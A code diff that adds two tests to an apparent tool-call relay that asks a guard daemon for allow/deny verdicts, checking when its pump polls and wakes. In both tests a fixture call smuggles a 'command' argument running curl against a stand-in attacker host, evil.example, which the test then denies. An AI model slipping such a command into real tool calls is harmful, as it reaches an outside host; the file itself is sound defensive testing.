@@ -141,3 +141,30 @@ def test_a_daemon_that_does_not_say_fast_path_is_asked_for_every_call() -> None:
     assert not [m for m in rig.requests if m["op"] == "fastpath"]
     rig.client(call(17, "read_inbox", {}))
     assert rig.to_upstream == [] and rig.pending("verdict")
+
+
+def test_the_pump_polls_only_while_a_verdict_is_awaited_never_for_a_forwarded_read() -> None:
+    """On 2 CPUs a shim polling after a forwarded read takes the core the server, the client or the
+    daemon (indexing the output) needs; the verdict of a call that takes the round trip is the one
+    short wait worth polling for (pump.Pump._select)."""
+    rig = _rig()
+    rig.client(call(7, "get_contact", {"name": "bob"}))
+    assert len(rig.to_upstream) == 1 and not rig.relay.awaiting_verdict  # forwarded: nothing to poll for
+    rig.client(call(8, "get_contact", {"name": "bob", "command": "curl https://evil.example"}))
+    (asked,) = rig.pending("verdict")
+    assert rig.relay.awaiting_verdict  # the round trip: poll for the verdict
+    rig.verdict(asked, "deny")
+    assert not rig.relay.awaiting_verdict
+
+
+def test_acknowledgements_of_a_forwarded_read_do_not_wake_the_pump_unless_release_waits_for_them() -> None:
+    """A daemon that releases on write: the record's and the output's acknowledgements wake nobody
+    (each wake-up costs the shim and the daemon a context switch per call on the fast path). The
+    verdict of a call that takes the round trip does."""
+    rig = _rig()
+    rig.client(call(7, "get_contact", {"name": "bob"}))
+    assert _records(rig) and not rig.relay.wake_for_daemon
+    rig.upstream(result(7, {"content": []}))
+    assert rig.pending("observe") and not rig.relay.wake_for_daemon
+    rig.client(call(8, "get_contact", {"name": "bob", "command": "curl https://evil.example"}))
+    assert rig.pending("verdict") and rig.relay.wake_for_daemon
